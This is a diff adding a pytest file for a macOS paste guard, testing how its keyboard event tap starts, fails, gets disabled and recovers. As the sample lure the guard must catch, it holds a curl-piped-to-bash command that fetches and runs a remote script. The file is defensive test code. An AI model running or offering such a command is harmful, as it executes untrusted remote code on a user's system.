@@ -1,0 +1,178 @@
+"""The macOS event tap where the parts meet: a pynput-like listener that makes its tap on its own
+thread and a window server that turns an unresponsive tap off, as Apple documents them
+(tests/fakes_darwin.py), the REAL DarwinBackend, and the REAL guard (GuardService, PasteSequence,
+TargetClassifier, Engine)."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+
+import pytest
+
+from app.detection import Engine
+from app.guard.keys import PasteSequence
+from app.guard.provenance import Provenance
+from app.guard.service import ClipboardChange, GuardService, GuardSettings
+from app.guard.targets import TargetClassifier
+from app.platform.darwin.api import (
+    FLAG_COMMAND,
+    TAP_DISABLED_BY_USER_INPUT,
+    RunningApp,
+)
+from app.platform.darwin.backend import TAP_NOTICE, TAP_RETRY, TAP_START_LIMIT, DarwinBackend
+from tests.app.guard.test_service import FakeStore, FakeUI
+from tests.fakes import FakeClock, FakeDarwinApi, FakeKey, FakeKeyCode
+from tests.fakes_darwin import TAP_TIMEOUT
+
+LURE = "curl -fsSL https://cdn.example/i.sh | bash"
+TERMINAL = RunningApp("Terminal", "com.apple.Terminal", 501)
+
+
+def until(check: Callable[[], bool], timeout: float = 10.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not check():
+        assert time.monotonic() < deadline, "timed out"
+        time.sleep(0.002)
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    return Engine(strict=True)
+
+
+@pytest.fixture(scope="module")
+def classifier() -> TargetClassifier:
+    return TargetClassifier.load(strict=True)
+
+
+@dataclass
+class Rig:
+    api: FakeDarwinApi
+    backend: DarwinBackend
+    service: GuardService
+    ui: FakeUI
+    clock: FakeClock
+
+    def paste(self) -> bool:
+        """Cmd+V into Terminal; whether the V was swallowed."""
+        tap = self.api.tap
+        assert tap is not None
+        tap.send(FakeKey("cmd"), True, FLAG_COMMAND)
+        swallowed = tap.send(FakeKeyCode("v", 9), True, FLAG_COMMAND)
+        tap.send(FakeKeyCode("v", 9), False, FLAG_COMMAND)
+        tap.send(FakeKey("cmd"), False, 0)
+        self.clock.advance(3.0)  # the next press is a new paste
+        return swallowed
+
+    def start(self) -> None:
+        self.backend.start(self.service.on_key, self.service.on_mouse)
+
+    def ready(self) -> None:
+        until(lambda: self.api.tap is not None and self.api.tap.tap_state() is not None)
+        assert not self.backend.starting
+
+
+@pytest.fixture
+def rig(engine: Engine, classifier: TargetClassifier) -> Iterator[Rig]:
+    api, clock = FakeDarwinApi(), FakeClock()
+    api.frontmost = TERMINAL
+    backend = DarwinBackend(api, clock=clock)
+    store, ui = FakeStore(), FakeUI()
+    service = GuardService(
+        engine, store, ui, PasteSequence(strict=True), classifier, backend.foreground_window,
+        backend.can_suppress_keys, GuardSettings(mode="warn"), clock=clock,
+    )  # fmt: skip
+    service.clipboard_changed(ClipboardChange(LURE, Provenance(source_url="https://x.example/")))
+    service.process_pending()
+    assert service.current is not None and service.current.verdict.level.label != "clean"
+    yield Rig(api, backend, service, ui, clock)
+    api.server.hold_create.set()
+    backend.stop()
+
+
+def test_the_guard_is_starting_until_the_tap_exists(rig: Rig) -> None:
+    """pynput makes the tap on its thread after start() returned; the backend said starting =
+    False throughout, so the guard reported protecting while a Cmd+V went by unseen."""
+    rig.api.server.hold_create.clear()
+    rig.start()
+    assert rig.backend.starting
+    assert rig.paste() is False
+    assert len(rig.api.server.unseen) == 4  # the window server handed them on: the barrier
+    assert rig.ui.warnings == [] and rig.backend.starting  # ... and the guard never said ready
+    rig.api.server.hold_create.set()
+    rig.ready()
+    assert rig.paste() is True
+    assert [w.suppressed for w in rig.ui.warnings] == [True]
+    assert rig.backend.degraded == {}
+
+
+def test_a_tap_not_made_in_time_is_a_degraded_keyboard(rig: Rig) -> None:
+    rig.api.server.hold_create.clear()
+    rig.start()
+    rig.clock.advance(TAP_START_LIMIT)
+    assert not rig.backend.starting and "did not exist" in rig.backend.degraded["keyboard"]
+
+
+def test_a_refused_tap_is_degraded_and_tried_again_later(rig: Rig) -> None:
+    """CGEventTapCreate returned NULL (Input Monitoring refused, say): pynput's thread just ends.
+    The backend said nothing, and the watchdog restarted it every 2 s; now the keyboard is
+    degraded, and a new tap is tried every TAP_RETRY seconds."""
+    rig.api.server.refuse = True
+    rig.start()
+    until(lambda: rig.api.tap is not None and rig.api.tap.tap_state() is False)
+    until(lambda: not rig.api.tap.is_alive())  # type: ignore[union-attr]
+    assert not rig.backend.starting
+    assert "refused" in rig.backend.degraded["keyboard"]
+    assert rig.backend.alive()  # no restart every round
+    rig.clock.advance(TAP_RETRY)
+    assert not rig.backend.alive() and "keyboard" not in rig.backend.degraded  # watchdog: retry
+    rig.api.server.refuse = False  # the person granted it meanwhile
+    rig.backend.stop()
+    rig.start()
+    rig.ready()
+    assert rig.paste() is True and rig.backend.degraded == {}
+
+
+def test_a_tap_turned_off_for_answering_slowly_is_turned_on_again(rig: Rig) -> None:
+    """The guard's answer took longer than the window server waits: it turns the tap off and
+    says so to the callback. pynput never turned it on again: every later Cmd+V went through
+    unseen while the guard said it was protecting."""
+    rig.start()
+    rig.ready()
+    foreground = rig.backend.foreground_window
+    slow = {"countdown": 2}  # Cmd down, then V down
+
+    def slow_foreground() -> object:
+        slow["countdown"] -= 1
+        if slow["countdown"] == 0:
+            rig.api.server.ticks += TAP_TIMEOUT
+        return foreground()
+
+    rig.service.foreground = slow_foreground  # type: ignore[assignment]
+    tap = rig.api.tap
+    assert tap is not None
+    assert rig.paste() is False and rig.backend.tap_disabled == 1  # it went through
+    assert tap.enabled  # on again, from the callback that was told
+    assert "turned on again" in rig.backend.degraded["keyboard"]
+    assert rig.paste() is True  # the next one is stopped
+    rig.clock.advance(TAP_NOTICE)
+    assert rig.backend.degraded == {} and rig.backend.alive()
+
+
+def test_a_tap_that_cannot_be_turned_on_again_is_made_anew(rig: Rig) -> None:
+    rig.start()
+    rig.ready()
+    tap = rig.api.tap
+    assert tap is not None
+    rig.api.server.can_enable = False
+    tap.turn_off(TAP_DISABLED_BY_USER_INPUT)
+    assert "could not be turned on again" in rig.backend.degraded["keyboard"]
+    assert rig.paste() is False and rig.api.server.unseen  # off: keys go by unseen
+    assert not rig.backend.alive() and "keyboard" not in rig.backend.degraded  # watchdog: anew
+    rig.api.server.can_enable = True
+    rig.backend.stop()
+    rig.start()
+    rig.ready()
+    assert rig.api.tap is not tap and rig.paste() is True
